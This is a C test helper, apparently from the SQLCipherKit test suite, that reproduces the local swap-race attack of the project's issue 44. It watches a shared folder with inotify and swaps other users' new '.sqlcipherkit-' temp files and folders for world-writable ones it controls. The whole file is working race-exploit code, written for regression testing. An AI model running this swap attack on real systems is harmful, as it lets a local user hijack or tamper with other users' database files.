// The local attacker of issue 44's swap race, for Tests/CLITests/OperatorTests.swift (MIT, The SQLCipherKit authors).
//
// usage: swap_attacker FOLDER SECONDS
//
// Watches FOLDER (which it can write to) with inotify and, whenever an entry whose name holds ".sqlcipherkit-"
// appears, swaps it for one of its own as fast as it can: a folder is renamed away (to "stolen-N") and replaced by a
// 0777 folder holding a 0666 "database" and "database-journal"; a file is deleted and replaced by a 0666 file. It
// keeps a descriptor on everything it creates, as the attacker in the issue did, and prints "ready" once watching,
// then one line per swap ("folder NAME" or "file NAME") as it makes it, until SECONDS have passed or it is killed.
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

int main(int argc, char **argv) {
    if (argc != 3) { fprintf(stderr, "usage: swap_attacker FOLDER SECONDS\n"); return 2; }
    const char *folder = argv[1];
    int seconds = atoi(argv[2]);
    if (chdir(folder) != 0) { perror("chdir"); return 1; }
    umask(0);
    int watch = inotify_init1(IN_NONBLOCK);
    if (watch < 0 || inotify_add_watch(watch, ".", IN_CREATE) < 0) { perror("inotify"); return 1; }
    printf("ready\n");
    fflush(stdout);
    int folders = 0, files = 0, stolen = 0;
    time_t end = time(NULL) + seconds;
    char buffer[65536] __attribute__((aligned(__alignof__(struct inotify_event))));
    while (time(NULL) < end) {
        struct pollfd wait = { .fd = watch, .events = POLLIN };
        if (poll(&wait, 1, 200) <= 0) continue;
        ssize_t got = read(watch, buffer, sizeof buffer);
        for (char *at = buffer; got > 0 && at < buffer + got;) {
            struct inotify_event *event = (struct inotify_event *)at;
            at += sizeof *event + event->len;
            if (event->len == 0 || !strstr(event->name, ".sqlcipherkit-")) continue;
            struct stat status;
            if (lstat(event->name, &status) != 0 || status.st_uid == geteuid()) continue;
            if (S_ISDIR(status.st_mode)) {
                char away[64];
                snprintf(away, sizeof away, "stolen-%d", stolen++);
                if (rename(event->name, away) != 0) continue;
                if (mkdir(event->name, 0777) != 0) continue;
                char path[4096];
                snprintf(path, sizeof path, "%s/database", event->name);
                if (open(path, O_RDWR | O_CREAT, 0666) < 0) continue;
                snprintf(path, sizeof path, "%s/database-journal", event->name);
                (void)open(path, O_RDWR | O_CREAT, 0666);
                folders++;
                printf("folder %s\n", event->name);
                fflush(stdout);
            } else if (S_ISREG(status.st_mode)) {
                if (unlink(event->name) != 0) continue;
                if (open(event->name, O_RDWR | O_CREAT | O_EXCL, 0666) >= 0) {
                    files++;
                    printf("file %s\n", event->name);
                    fflush(stdout);
                }
            }
        }
    }
    printf("done: %d folders, %d files swapped\n", folders, files);
    return 0;
}
